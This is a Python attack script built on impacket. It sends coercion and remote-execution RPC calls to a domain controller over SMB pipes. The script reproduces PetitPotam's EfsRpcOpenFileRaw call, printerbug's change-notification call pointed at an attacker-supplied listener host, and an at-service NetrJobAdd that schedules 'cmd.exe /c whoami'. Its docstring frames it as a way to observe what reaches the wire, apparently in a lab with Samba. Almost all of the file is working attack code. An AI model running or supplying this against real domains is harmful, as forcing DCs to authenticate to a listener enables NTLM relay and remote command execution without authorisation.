#!/usr/bin/env python3
"""coerce.py -u USER -p PASSWORD -d DOMAIN --listener IP [--dialect 3|2.1] MODE DC_IP

The RPC calls of forced-authentication and at-service tools, with impacket, over SMB named
pipes (as PetitPotam, printerbug and atexec send them):

  efsrpc   EfsRpcOpenFileRaw(\\\\LISTENER\\share\\f) on \\pipe\\efsrpc (MS-EFSR UUID df1941c5)
           and on \\pipe\\lsarpc (UUID c681d488), as PetitPotam does
  spoolss  RpcOpenPrinter(\\\\DC) then RpcRemoteFindFirstPrinterChangeNotificationEx
           pointing at \\\\LISTENER (the "printer bug", as printerbug.py does)
  atsvc    NetrJobAdd on \\pipe\\atsvc (the at-service job a remote `at` creates)

Samba implements neither EFSRPC nor the at service: when it refuses a bind, the request is
sent anyway on the same connection (what reaches the wire is the point), and the answer is
printed.  --dialect 3 is impacket's default (SMB 3 with encryption, nothing readable past
the session setup); 2.1 negotiates SMB 2.1, where the calls travel signed but readable.
Prints "sent" after each call that left this host.
"""
import argparse
import sys

from impacket.dcerpc.v5 import atsvc, rprn, transport
from impacket.dcerpc.v5.dtypes import NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.smb3structs import SMB2_DIALECT_21
from impacket.smbconnection import SMBConnection
from impacket.uuid import uuidtup_to_bin


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (('FileName', WSTR), ('Flags', ULONG))


EFSR_PIPES = [(r'\efsrpc', ('df1941c5-fe89-4e79-bf10-463657acf44d', '1.0')),
              (r'\lsarpc', ('c681d488-d850-11d0-8c52-00c04fd90f7e', '1.0'))]


def smb(args):
    dialect = SMB2_DIALECT_21 if args.dialect == '2.1' else None
    conn = SMBConnection(args.dc, args.dc, preferredDialect=dialect, timeout=5)
    conn.login(args.user, args.password, args.domain)
    print('SMB dialect 0x%x, session as %s\\%s' % (conn.getDialect(), args.domain, args.user))
    return conn


def pipe_dce(conn, args, pipe, uuid):
    """Bound DCE/RPC over a pipe; a refused bind is reported and the connection kept."""
    rpct = transport.SMBTransport(args.dc, filename=pipe, smb_connection=conn)
    dce = rpct.get_dce_rpc()
    dce.connect()
    try:
        dce.bind(uuidtup_to_bin(uuid))
        print('%s: bound %s' % (pipe, uuid[0]))
    except Exception as exc:  # the request goes out regardless
        print('%s: bind of %s refused (%s)' % (pipe, uuid[0], exc))
    return dce


def call(dce, opnum, req, what):
    try:
        dce.call(opnum, req)
        print('%s sent' % what)
        resp = dce.recv()
        print('%s answered (%d bytes)' % (what, len(resp)))
    except Exception as exc:
        print('%s: %s' % (what, exc))


def efsrpc(args):
    for pipe, uuid in EFSR_PIPES:
        conn = smb(args)
        try:
            dce = pipe_dce(conn, args, pipe, uuid)
        except Exception as exc:
            print('%s: cannot open the pipe (%s)' % (pipe, exc))
            continue
        req = EfsRpcOpenFileRaw()
        req['FileName'] = '\\\\%s\\share\\file.txt\x00' % args.listener
        req['Flags'] = 0
        call(dce, 0, req, 'EfsRpcOpenFileRaw on %s' % pipe)
        conn.close()


def spoolss(args):
    conn = smb(args)
    dce = pipe_dce(conn, args, r'\spoolss', ('12345678-1234-abcd-ef00-0123456789ab', '1.0'))
    try:
        handle = rprn.hRpcOpenPrinter(dce, '\\\\%s\x00' % args.dc)['pHandle']
        print('RpcOpenPrinter sent, handle received')
    except Exception as exc:
        print('RpcOpenPrinter sent: %s' % exc)
        handle = b'\x00' * 20
    try:
        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            dce, handle, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine='\\\\%s\x00' % args.listener)
        print('RpcRemoteFindFirstPrinterChangeNotificationEx sent, accepted')
    except Exception as exc:
        print('RpcRemoteFindFirstPrinterChangeNotificationEx sent: %s' % exc)
    conn.close()


def at_job(args):
    conn = smb(args)
    try:
        dce = pipe_dce(conn, args, r'\atsvc', ('1ff70682-0a51-30e8-076d-740be8cee98b', '1.0'))
    except Exception as exc:
        print(r'\atsvc: cannot open the pipe (%s): nothing more can be sent' % exc)
        return
    req = atsvc.NetrJobAdd()
    req['ServerName'] = NULL
    req['pAtInfo']['JobTime'] = 0
    req['pAtInfo']['DaysOfMonth'] = 0
    req['pAtInfo']['DaysOfWeek'] = 0
    req['pAtInfo']['Flags'] = 0
    req['pAtInfo']['Command'] = 'cmd.exe /c whoami\x00'
    call(dce, 0, req, 'NetrJobAdd')
    conn.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument('-u', dest='user', required=True)
    ap.add_argument('-p', dest='password', required=True)
    ap.add_argument('-d', dest='domain', required=True)
    ap.add_argument('--listener', required=True, help='host the DC is made to authenticate to')
    ap.add_argument('--dialect', choices=['3', '2.1'], default='3')
    ap.add_argument('mode', choices=['efsrpc', 'spoolss', 'atsvc'])
    ap.add_argument('dc')
    args = ap.parse_args()
    {'efsrpc': efsrpc, 'spoolss': spoolss, 'atsvc': at_job}[args.mode](args)


if __name__ == '__main__':
    sys.exit(main())
